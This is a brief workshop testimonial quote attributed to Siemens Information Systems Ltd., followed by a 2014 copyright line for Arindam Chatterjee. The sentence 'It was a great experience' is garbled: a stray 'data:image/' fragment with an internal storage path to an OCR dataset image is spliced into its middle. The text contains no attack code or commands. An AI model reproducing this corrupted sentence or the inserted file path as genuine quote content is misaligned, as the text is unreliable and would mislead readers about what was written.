    “It was a greatexperience for me to attend this workshop, and trust me I’m not faking anything! And thanks for your appreciation for the group!Will keep in touch”


    Siemens Information Systems Ltd.

© 2014 Arindam Chatterjee. All rights reserved.